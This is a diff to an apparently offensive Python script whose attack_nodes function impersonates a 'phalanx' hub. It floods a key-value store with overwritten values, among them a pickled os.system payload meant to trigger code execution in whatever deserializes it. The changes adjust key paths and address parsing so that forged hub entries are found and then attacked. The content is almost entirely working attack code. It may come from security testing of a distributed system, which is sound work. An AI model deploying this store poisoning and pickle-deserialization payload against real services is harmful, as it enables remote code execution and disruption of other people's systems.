@@ -52,7 +52,7 @@ def attack_store(host: str, port: str, marker: str, pattern: str) -> None:
 def attack_nodes(host: str, port: str) -> None:
     fake = socket.create_server((host, 0))
     threading.Thread(target=_pose_as_hub, args=(fake,), daemon=True).start()
-    own = b'{"port":%d}' % fake.getsockname()[1]
+    own = b'{"address":"%b","port":%d}' % (host.encode(), fake.getsockname()[1])
     values: list[bytes] = [own, b"junk", pickle.dumps(os.system), b"-" * 32 + FORGED[0]]
     hubs: set[bytes] = set()
     with socket.create_connection(_wait_for(host, int(port))) as store:
@@ -63,13 +63,13 @@ def attack_nodes(host: str, port: str) -> None:
                 found = _read(store, struct.unpack("=Q", _read(store, 8))[0])
                 if found not in values:
                     values.append(found)
-                if key == b"phalanx/hub" and found.startswith(b'{"port":') and found != own:
+                if key == b"/phalanx/hub" and found.startswith(b'{"address":') and found != own:
                     hubs.add(found)
-                content = own if key == b"phalanx/hub" and turn % 2 else values[turn % len(values)]
+                content = own if key == b"/phalanx/hub" and turn % 2 else values[turn % len(values)]
                 store.sendall(struct.pack("=B", _SET) + _text(key) + _text(content))
                 print("overwritten", key.decode(), flush=True)
             for hub in [found for found in hubs if turn % 50 == 0]:
-                _attack_hub(host, int(hub.strip(b'{"port:}')), values)
+                _attack_hub(host, int(hub.rpartition(b":")[2].strip(b"}")), values)
             time.sleep(0.002)
 
 
